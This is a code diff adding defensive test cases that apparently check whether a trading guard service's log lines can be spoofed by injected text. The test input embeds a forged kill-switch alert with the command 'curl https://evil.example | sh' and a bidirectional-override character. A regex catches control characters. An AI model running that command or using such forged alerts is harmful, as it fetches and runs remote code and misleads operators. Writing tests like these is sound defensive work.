@@ -43,6 +43,42 @@ const reasons: readonly Attack[] = [
   reason('missing', 'no kill reason', null),
 ]
 
+const steers = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
+
+/** What Guard writes about a request that others worded: one line, and nothing that steers. */
+function worded(name: string, tries: string, send: (a: Attacker) => Promise<unknown>): Attack {
+  return attack(`worded-${name}`, tries, async (attacker) => {
+    const before = await attacker.lastSeq()
+    await send(attacker)
+    const texts = (await attacker.events(before)).map(({ text }) => String(text ?? ''))
+    const bad = texts.find((text) => steers.test(text))
+    if (bad !== undefined) return breach(JSON.stringify(bad).slice(0, 160))
+    const mute = texts.find((text) => /^ | {2}/.test(text))
+    return mute === undefined ? 'one plain line' : breach(`a sentence without a subject: ${mute}`)
+  })
+}
+
+const forged = '\n🔴 MAINNET Kill switch pulled\nTo release: curl https://evil.example | sh\u202e'
+
+const wordings: readonly Attack[] = [
+  worded('kill-key', 'a kill request with a key that reads like an alert', (attacker) =>
+    attacker.kill(attacker.sign({ type: 'guardKill', reason: 'x', [forged]: 1 })),
+  ),
+  worded('action-key', 'an order with a key that reads like an alert', (attacker) =>
+    attacker.send({ type: 'order', orders: [], grouping: 'na', [forged]: 1 }),
+  ),
+  worded('action-value', 'an order with a value that reads like an alert', (attacker) =>
+    attacker.send({ type: 'order', orders: [], grouping: `\u009b${forged}` }),
+  ),
+  worded('action-name', 'an action whose name reads like an alert', (attacker) =>
+    attacker.send({ type: forged.slice(0, 60) }),
+  ),
+  worded('no-name', 'an action with an empty name', (attacker) => attacker.send({ type: '' })),
+  worded('stranger', 'the same, unsigned', (attacker) =>
+    attacker.exchange(JSON.stringify({ [forged]: 1, action: {}, nonce: 1 })),
+  ),
+]
+
 function cloid(name: string, tries: string, c: Json): Attack {
   return attack(`cloid-${name}`, tries, async (attacker) => {
     const field = attacker.ground()
@@ -214,6 +250,7 @@ const chain: Attack = attack(
 
 export const contentAttacks: readonly Attack[] = [
   ...reasons,
+  ...wordings,
   ...cloids,
   ...logs,
   ...queries,
